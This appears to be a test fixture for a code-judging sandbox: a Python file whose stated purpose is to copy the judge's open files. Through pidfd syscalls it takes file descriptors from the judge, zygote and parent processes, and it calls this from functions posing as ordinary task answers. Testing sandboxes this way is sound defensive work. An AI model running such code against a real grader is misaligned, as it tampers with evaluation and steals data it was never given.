# Attack: takes a copy of the judge's open files.
# score: 0
# ruff: noqa

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    found = []
    for process in (int("@@JUDGE@@"), int("@@ZYGOTE@@"), os.getppid()):
        handle = libc.syscall(434, process, 0)
        for number in range(20):
            got = libc.syscall(438, handle, number, 0)
            if got >= 0:
                found.append(os.read(got, 100))
    return found


def double(x):
    return 2 * x if attack() else None


def minimize(start, learning_rate=0.1, num_iterations=10):
    found = attack()
    print(found)
    return str(found)


def make_model():
    return str(attack())
